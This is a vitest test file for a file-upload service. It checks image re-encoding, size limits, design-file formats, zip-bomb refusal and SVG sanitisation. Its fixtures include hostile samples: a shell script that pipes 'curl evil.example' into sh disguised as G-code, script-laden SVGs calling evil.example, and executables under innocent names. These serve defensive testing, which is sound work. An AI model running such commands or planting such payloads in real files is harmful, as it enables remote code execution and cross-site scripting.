import { IMAGE_VARIANT_WIDTHS, imageVariantUrl, ZUploadResponse } from '@layerline/contract';
import { and, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { files } from '../../db/schema';
import { binaryStl, ELF, MINIMAL_PDF } from '../../test/design-files';
import type { TTestApp } from '../../test/test-app';
import { signedInUploader, type TUploader, testImage } from '../../test/uploads';
import { buildZip, zeros } from '../../test/zips';
import { decodeRgba } from '../ai/engines/image-input';

/**
 * What each upload kind accepts, refuses and stores: images (cover, ai,
 * feedback), executables under any name, instructions and design files.
 * The batch and legacy paths and uploads without a kind:
 * upload-paths.routes.test.ts.
 */
let t: TTestApp;
let userId: number;
let upload: TUploader['upload'];
let fetchStored: TUploader['fetchStored'];
const image = testImage;

beforeAll(async () => {
  ({ t, userId, upload, fetchStored } = await signedInUploader());
});

afterAll(async () => {
  await t.close();
});

describe('images: cover, ai, feedback', () => {
  it('re-encodes a cover to WebP without metadata, with a 480px thumbnail, and records it', async () => {
    const jpeg = await image(1600, 1200)
      .jpeg()
      .withMetadata({ orientation: 6, exif: { IFD0: { Copyright: 'gps-secret' } } })
      .toBuffer();
    const res = await upload('cover', { data: jpeg, name: 'My cover.JPG' });
    expect(res.statusCode).toBe(200);
    const { data } = ZUploadResponse.parse(res.json());
    expect(data).toMatchObject({ filename: 'My cover.webp', mime: 'image/webp' });
    const stored = await fetchStored(data.url);
    const meta = await sharp(stored).metadata();
    expect([meta.format, meta.width, meta.height, meta.exif]).toEqual([
      'webp',
      1200,
      1600,
      undefined,
    ]);
    expect(stored.includes(Buffer.from('gps-secret'))).toBe(false);
    const thumb = await sharp(await fetchStored(data.thumbnail ?? '')).metadata();
    expect([thumb.format, thumb.width]).toEqual(['webp', 480]);
    // Its smaller copies are stored with it, under the names cards derive (srcset).
    for (const width of IMAGE_VARIANT_WIDTHS) {
      const copy = imageVariantUrl(data.thumbnail ?? '', width).slice('/files/'.length);
      expect(await t.storage.exists(copy)).toBe(true);
    }
    const [row] = await t.db
      .select()
      .from(files)
      .where(and(eq(files.userId, userId), eq(files.url, data.url)));
    expect(row).toMatchObject({
      kind: 'cover',
      mime: 'image/webp',
      size: data.size,
      thumbnail: data.thumbnail,
    });
  });

  it('keeps an AI source image lossless, with or without transparency', async () => {
    const png = await image(300, 200, 4).png().toBuffer();
    const res = await upload('ai', { data: png, name: 'source.png' });
    expect(res.json().data).toMatchObject({ filename: 'source.png', mime: 'image/png' });
    const jpeg = await upload('ai', {
      data: await image(300, 200).jpeg().toBuffer(),
      name: 'a.jpeg',
    });
    expect(jpeg.json().data).toMatchObject({ filename: 'a.png', mime: 'image/png' });
  });

  it('stores opaque line art as an AI source pixel for pixel (DESIGN 5: no JPEG artefacts)', async () => {
    // Thin black strokes on white, no transparency: what a scan of a drawing looks like.
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="240" height="160">
  <rect width="100%" height="100%" fill="#fff"/>
  <path d="M10 150 L120 10 L230 150 Z M60 100 h120" stroke="#000" stroke-width="1.5" fill="none"/>
  <circle cx="120" cy="95" r="30" stroke="#333" stroke-width="1" fill="none"/></svg>`;
    const original = await sharp(Buffer.from(svg)).removeAlpha().png().toBuffer();
    const res = await upload('ai', { data: original, name: 'lineart.png' });
    const { data } = ZUploadResponse.parse(res.json());
    expect(data.mime).toBe('image/png');
    const decode = (bytes: Buffer) => sharp(bytes).removeAlpha().raw().toBuffer();
    const stored = await decode(await fetchStored(data.url));
    expect(stored.equals(await decode(original))).toBe(true);
  });

  it('stores an AI source that declares no DPI without one (not libvips’ 72)', async () => {
    const jpeg = await image(60, 40).jpeg().toBuffer();
    const { data } = ZUploadResponse.parse(
      (await upload('ai', { data: jpeg, name: 'p.jpg' })).json(),
    );
    const stored = await fetchStored(data.url);
    expect(stored.includes(Buffer.from('pHYs'))).toBe(false);
    // The engines read it as a source without a DPI (their results get 300, DESIGN 5).
    expect((await decodeRgba(stored)).density).toBeUndefined();
    // One that declares 300 keeps it.
    const scan = await image(60, 40).withMetadata({ density: 300 }).jpeg().toBuffer();
    const declared = ZUploadResponse.parse(
      (await upload('ai', { data: scan, name: 's.jpg' })).json(),
    );
    expect((await decodeRgba(await fetchStored(declared.data.url))).density).toBe(300);
  });

  it('answers 413 over the kind’s limit (cover 10 MB, feedback 5 MB)', async () => {
    const png = await image(4, 4).png().toBuffer();
    const cover = await upload('cover', {
      data: Buffer.concat([png, Buffer.alloc(10 * 1024 * 1024)]),
      name: 'big.png',
    });
    expect(cover.statusCode).toBe(413);
    expect(cover.json()).toEqual({
      code: 413,
      msg: 'The file is too large (at most 10 MB).',
      data: null,
    });
    const feedback = await upload('feedback', {
      data: Buffer.concat([png, Buffer.alloc(5 * 1024 * 1024)]),
      name: 'f.png',
    });
    expect(feedback.json()).toMatchObject({
      code: 413,
      msg: 'The file is too large (at most 5 MB).',
    });
  });

  it("stores no copies of a feedback picture's thumbnail: only cards show thumbnails small", async () => {
    const png = await image(800, 600).png().toBuffer();
    const res = await upload('feedback', { data: png, name: 'bug.png' });
    const { data } = ZUploadResponse.parse(res.json());
    const copy = imageVariantUrl(data.thumbnail ?? '', 320).slice('/files/'.length);
    expect(copy).not.toBe('');
    expect(await t.storage.exists(copy)).toBe(false);
  });

  it('refuses non-images and PDFs as covers', async () => {
    for (const data of [MINIMAL_PDF, Buffer.from('not an image')]) {
      const res = await upload('cover', { data, name: 'cover.png' });
      expect(res.json()).toMatchObject({
        code: 400,
        msg: 'Only JPG, PNG, GIF or WebP images are allowed.',
      });
    }
  });
});

describe('executables are refused whatever their name', () => {
  it.each([
    ['cover', 'photo.png', ELF],
    ['design', 'bracket.stl', ELF],
    ['instruction', 'manual.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300)])],
    ['design', 'print.gcode', Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')],
    ['design', 'logo.svg', Buffer.from('<!doctype html><html><body onload="x()"></body></html>')],
  ])('%s named %s', async (kind, name, data) => {
    const res = await upload(kind, { data, name, type: 'image/png' });
    expect(res.statusCode).toBe(400);
    expect(res.json().msg).toBe('Executable files and scripts cannot be uploaded.');
  });
});

describe('instruction and design files', () => {
  it('accepts a PDF as instructions, and nothing else', async () => {
    const res = await upload('instruction', { data: MINIMAL_PDF, name: '说明.pdf' });
    expect(res.json().data).toMatchObject({
      filename: '说明.pdf',
      mime: 'application/pdf',
      size: MINIMAL_PDF.length,
    });
    expect((await fetchStored(res.json().data.url)).equals(MINIMAL_PDF)).toBe(true);
    const stl = await upload('instruction', { data: binaryStl(2), name: 'x.pdf' });
    expect(stl.json()).toMatchObject({ code: 400, msg: 'Only PDF files are allowed.' });
  });

  it.each([
    ['part.STL', binaryStl(12), 'part.stl', 'model/stl'],
    ['ascii', Buffer.from('solid a\nfacet normal 0 0 1\nendsolid a\n'), 'ascii.stl', 'model/stl'],
    ['mesh.obj', Buffer.from('o a\nv 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n'), 'mesh.obj', 'model/obj'],
    ['body.stp', Buffer.from('ISO-10303-21;\nHEADER;\nENDSEC;\n'), 'body.stp', 'model/step'],
    ['plate.gcode', Buffer.from('G28\nG1 X1 Y1\n'), 'plate.gcode', 'text/x-gcode'],
    [
      'sign.dxf',
      Buffer.from('0\nSECTION\n2\nENTITIES\n0\nENDSEC\n0\nEOF\n'),
      'sign.dxf',
      'image/vnd.dxf',
    ],
    [
      'job.lbrn2',
      Buffer.from('<?xml version="1.0"?><LightBurnProject/>'),
      'job.lbrn2',
      'application/x-lightburn',
    ],
    [
      'box.xcs',
      Buffer.from('{"canvasId":"1","canvas":[],"device":{}}'),
      'box.xcs',
      'application/x-xcs+json',
    ],
    ['sheet.pdf', MINIMAL_PDF, 'sheet.pdf', 'application/pdf'],
    ['wrongly named.zip', binaryStl(1), 'wrongly named.stl', 'model/stl'],
  ])('accepts %s by its content', async (name, data, filename, mime) => {
    const res = await upload('design', { data, name });
    expect(res.statusCode).toBe(200);
    expect(res.json().data).toMatchObject({ filename, mime, size: data.length });
    expect((await fetchStored(res.json().data.url)).equals(data)).toBe(true);
  });

  it('accepts a .3mf that is a valid ZIP package, and a ZIP of files', async () => {
    const model = await buildZip([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
      {
        name: '3D/3dmodel.model',
        data: Buffer.from('<model unit="millimeter"><resources/></model>'),
      },
    ]);
    const res = await upload('design', { data: model, name: 'Benchy.3mf' });
    expect(res.json().data).toMatchObject({
      filename: 'Benchy.3mf',
      mime: 'model/3mf',
      size: model.length,
    });
    const zip = await buildZip([{ name: 'parts/a.stl', data: binaryStl(3) }]);
    const plain = await upload('design', { data: zip, name: 'kit.zip' });
    expect(plain.json().data).toMatchObject({ filename: 'kit.zip', mime: 'application/zip' });
  });

  it('refuses a zip bomb (200 MB of zeros in about 200 KB)', async () => {
    const bomb = await buildZip([{ name: 'zeros.stl', stream: () => zeros(200 * 1024 * 1024) }]);
    expect(bomb.length).toBeLessThan(512 * 1024);
    const res = await upload('design', { data: bomb, name: 'model.3mf' });
    expect(res.statusCode).toBe(400);
    expect(res.json().msg).toBe(
      'The archive unpacks to far more data than it holds and was refused.',
    );
  });

  it('stores an SVG sanitised: no script, no handlers, no outside references', async () => {
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">' +
        '<script>alert(2)</script><path id="cut" d="M0 0H10"/><use xlink:href="#cut"/>' +
        '<image href="https://evil.example/pixel.png"/><a xlink:href="https://evil.example"><circle r="2"/></a></svg>',
    );
    const res = await upload('design', { data: svg, name: 'logo.svg' });
    expect(res.json().data).toMatchObject({ filename: 'logo.svg', mime: 'image/svg+xml' });
    const stored = (await fetchStored(res.json().data.url)).toString('utf8');
    for (const banned of ['script', 'onload', 'evil.example']) expect(stored).not.toContain(banned);
    expect(stored).toContain('<use xlink:href="#cut"/>');
    expect(stored).toContain('<circle r="2"/>');
    const served = await t.app.inject({ method: 'GET', url: res.json().data.url });
    expect(served.headers['content-security-policy']).toContain('sandbox');
    const broken = await upload('design', { data: Buffer.from('<svg><g></svg>'), name: 'b.svg' });
    expect(broken.json()).toMatchObject({ code: 400, msg: 'The SVG file is not well-formed.' });
  });

  it('refuses unknown formats and images of the wrong kind', async () => {
    const gif = await image(8, 8).gif().toBuffer();
    for (const [data, name] of [
      [Buffer.from('just some notes\n'), 'notes.stl'],
      [gif, 'a.gif'],
    ] as const) {
      const res = await upload('design', { data, name });
      expect(res.statusCode).toBe(400);
      expect(res.json().msg).toMatch(/^This design file format is not supported/);
    }
  });
});
